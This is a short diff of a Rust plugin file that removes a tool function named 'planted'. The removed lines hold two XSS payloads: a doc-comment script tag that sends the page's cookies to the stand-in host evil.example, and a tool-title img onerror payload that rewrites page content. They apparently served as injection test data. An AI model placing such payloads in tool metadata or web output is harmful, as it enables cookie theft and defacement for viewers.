@@ -64,10 +64,4 @@ fn attribute(args: Field) -> String {
     }
 }
 
-/// <script>document.body.innerHTML = fetch('//evil.example/' + document.cookie)</script> is what this is called.
-#[tool(title = "<img src=x onerror=\"document.body.innerHTML='planted'\">")]
-fn planted() -> &'static str {
-    "got: called"
-}
-
-plugin!(shell, argument, project, attribute, planted);
+plugin!(shell, argument, project, attribute);
